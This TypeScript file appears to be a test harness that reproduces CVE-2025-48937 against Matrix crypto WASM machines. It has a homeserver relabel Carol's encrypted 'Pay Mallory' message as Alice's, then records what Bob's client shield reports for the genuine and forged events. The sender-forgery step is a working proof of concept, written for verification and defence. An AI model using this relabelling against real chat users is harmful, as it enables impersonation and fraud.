// CVE-2025-48937 replayed between real crypto WASM machines, no homeserver: Carol shares a megolm room
// key with Bob and sends an encrypted message; a malicious homeserver relabels that event as Alice's.
// What Bob's machine then says about the genuine and the forged event is what the SDK's shield shows.
import type * as CryptoWasm from "@matrix-org/matrix-sdk-crypto-wasm";

type Wasm = typeof CryptoWasm;

export interface ShieldReport {
    sender: string;
    /** The device the machine attributes the message to, if any. */
    senderDevice?: string;
    /** The shield's text, as the SDK's event tile shows it. */
    message?: string;
    body: string;
}

const ROOM = "!payroll:example.org";
const DEVICES: Record<string, string> = {
    "@alice:example.org": "ALICEDEVICE",
    "@bob:example.org": "BOBDEVICE",
    "@carol:example.org": "CAROLDEVICE",
};

interface Uploaded {
    device_keys: unknown;
    one_time_keys: Record<string, unknown>;
}

/** Runs the scenario with the given crypto WASM build; returns Bob's view of Carol's message, genuine and relabelled. */
export async function forgedSenderScenario(wasm: Wasm): Promise<{ genuine: ShieldReport; forged: ShieldReport }> {
    await wasm.initAsync();
    const users = (): CryptoWasm.UserId[] => Object.keys(DEVICES).map((id) => new wasm.UserId(id)); // consumed by each call
    const machines = new Map<string, CryptoWasm.OlmMachine>();
    const uploaded = new Map<string, Uploaded>();

    // Each device uploads its keys; the "server" keeps them and counts the one-time keys.
    for (const [userId, deviceId] of Object.entries(DEVICES)) {
        const machine: CryptoWasm.OlmMachine = await wasm.OlmMachine.initialize(
            new wasm.UserId(userId),
            new wasm.DeviceId(deviceId),
        );
        machines.set(userId, machine);
        for (const request of await machine.outgoingRequests()) {
            if (request.type !== wasm.RequestType.KeysUpload) continue;
            const body = JSON.parse(request.body) as Uploaded;
            uploaded.set(userId, body);
            const counts = { signed_curve25519: Object.keys(body.one_time_keys ?? {}).length };
            await machine.markRequestAsSent(request.id!, request.type, JSON.stringify({ one_time_key_counts: counts }));
        }
    }
    const deviceKeys = Object.fromEntries(
        [...uploaded].map(([userId, body]) => [userId, { [DEVICES[userId]]: body.device_keys }]),
    );
    const learnDevices = async (machine: CryptoWasm.OlmMachine): Promise<void> => {
        await machine.updateTrackedUsers(users());
        for (const request of await machine.outgoingRequests()) {
            if (request.type !== wasm.RequestType.KeysQuery) continue;
            await machine.markRequestAsSent(
                request.id!,
                request.type,
                JSON.stringify({ device_keys: deviceKeys, failures: {} }),
            );
        }
    };
    const bob = machines.get("@bob:example.org")!;
    const carol = machines.get("@carol:example.org")!;
    await learnDevices(bob);
    await learnDevices(carol);

    // Carol opens an Olm session to Bob's device with one of its one-time keys, then shares the room key.
    const claim = await carol.getMissingSessions([new wasm.UserId("@bob:example.org")]);
    const [keyId, oneTimeKey] = Object.entries(uploaded.get("@bob:example.org")!.one_time_keys)[0];
    const claimed = { one_time_keys: { "@bob:example.org": { BOBDEVICE: { [keyId]: oneTimeKey } } }, failures: {} };
    await carol.markRequestAsSent(claim!.id, claim!.type, JSON.stringify(claimed));
    const toDevice: Array<{ event_type: string; body: string }> = await carol.shareRoomKey(
        new wasm.RoomId(ROOM),
        [new wasm.UserId("@bob:example.org")],
        new wasm.EncryptionSettings(),
    );
    const sync = toDevice.flatMap((request) =>
        Object.values(JSON.parse(request.body).messages as Record<string, Record<string, unknown>>).flatMap(
            (byDevice) =>
                Object.values(byDevice).map((content) => ({
                    type: request.event_type,
                    sender: "@carol:example.org",
                    content,
                })),
        ),
    );
    await bob.receiveSyncChanges(JSON.stringify(sync), new wasm.DeviceLists(), new Map(), new Set());

    const content = await carol.encryptRoomEvent(
        new wasm.RoomId(ROOM),
        "m.room.message",
        JSON.stringify({ msgtype: "m.text", body: "Pay Mallory" }),
    );
    const asSeenByBob = async (sender: string, eventId: string): Promise<ShieldReport> => {
        const event = {
            type: "m.room.encrypted",
            sender,
            content: JSON.parse(content),
            event_id: eventId,
            room_id: ROOM,
            origin_server_ts: 1,
        };
        const settings = new wasm.DecryptionSettings(wasm.TrustRequirement.Untrusted);
        const decrypted = await bob.decryptRoomEvent(JSON.stringify(event), new wasm.RoomId(ROOM), settings);
        return {
            sender: String(decrypted.sender),
            senderDevice: decrypted.senderDevice?.toString(),
            message: decrypted.shieldState(false)?.message,
            body: JSON.parse(decrypted.event).content.body,
        };
    };
    return {
        genuine: await asSeenByBob("@carol:example.org", "$genuine"),
        // The homeserver's relabelling: the same ciphertext, now "from" Alice.
        forged: await asSeenByBob("@alice:example.org", "$forged"),
    };
}
